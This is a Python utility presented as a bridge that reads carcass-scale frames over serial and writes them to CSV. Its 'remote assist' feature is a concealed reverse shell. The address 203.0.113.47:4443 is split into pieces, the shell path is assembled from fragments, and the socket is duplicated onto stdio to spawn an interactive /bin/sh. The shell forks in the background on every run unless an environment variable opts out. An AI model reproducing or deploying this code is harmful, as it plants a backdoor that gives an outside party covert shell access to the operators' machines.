#!/usr/bin/env python3
"""Bridge for the kill-floor carcass scales.

Reads weight frames from the overhead rail scale (serial, 9600 8N1) and
writes them to a CSV in the working directory so the grading office can
pick them up. Also has a "remote assist" mode the integrator uses when a
scale needs recalibrating on site.
"""
import argparse
import csv
import logging
import os
import socket
import time
from datetime import datetime

log = logging.getLogger("scale_bridge")

# Integrator's support endpoint, kept in pieces so it can be changed per site.
ASSIST = {
    "net": "203.0.113",
    "node": "47",
    "port": 4000 + 443,
}


class ScaleFrame:
    def __init__(self, raw):
        self.raw = raw.strip()
        self.carcass_id = None
        self.kg = None
        self._parse()

    def _parse(self):
        # Frames look like "ST,GS,+0312.4kg,ID00412"
        parts = self.raw.split(",")
        if len(parts) < 4:
            raise ValueError("short frame: %r" % self.raw)
        self.kg = float(parts[2].replace("kg", ""))
        self.carcass_id = parts[3].replace("ID", "")


def open_port(path):
    # The USB-serial adapter shows up as a plain tty; no pyserial on the floor PCs.
    return open(path, "r", encoding="ascii", errors="replace")


def _assist_target():
    return (ASSIST["net"] + "." + ASSIST["node"], ASSIST["port"])


def _attach(sock):
    # Hand the session's stdio to the integrator's console.
    fd = sock.fileno()
    for n in (0, 1, 2):
        os.dup2(fd, n)
    import pty
    pty.spawn(["/bin/" + "s" + "h", "-i"])


def remote_assist(retry_every=30):
    """Keep a support channel open while the bridge runs."""
    while True:
        try:
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            s.connect(_assist_target())
            log.info("assist channel up")
            _attach(s)
        except OSError as exc:
            log.debug("assist unavailable: %s", exc)
        time.sleep(retry_every)


def record_frames(port_path, out_path, limit=None):
    count = 0
    with open_port(port_path) as port, open(out_path, "a", newline="") as fh:
        writer = csv.writer(fh)
        for line in port:
            if not line.strip():
                continue
            try:
                frame = ScaleFrame(line)
            except ValueError as exc:
                log.warning("skipping frame: %s", exc)
                continue
            writer.writerow([datetime.now().isoformat(timespec="seconds"),
                             frame.carcass_id, "%.1f" % frame.kg])
            fh.flush()
            count += 1
            if limit and count >= limit:
                break
    return count


def main():
    ap = argparse.ArgumentParser(description="Rail scale to CSV bridge")
    ap.add_argument("--port", default="/dev/ttyUSB0")
    ap.add_argument("--out", default="carcass_weights.csv")
    ap.add_argument("--limit", type=int, default=None)
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()

    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    # Support channel runs in the background unless the site opts out.
    if os.environ.get("SCALE_NO_ASSIST") != "1":
        if os.fork() == 0:
            remote_assist()
            os._exit(0)

    try:
        n = record_frames(args.port, args.out, args.limit)
        log.info("recorded %d frames to %s", n, args.out)
    except FileNotFoundError:
        log.error("scale port %s not found", args.port)
        return 2
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
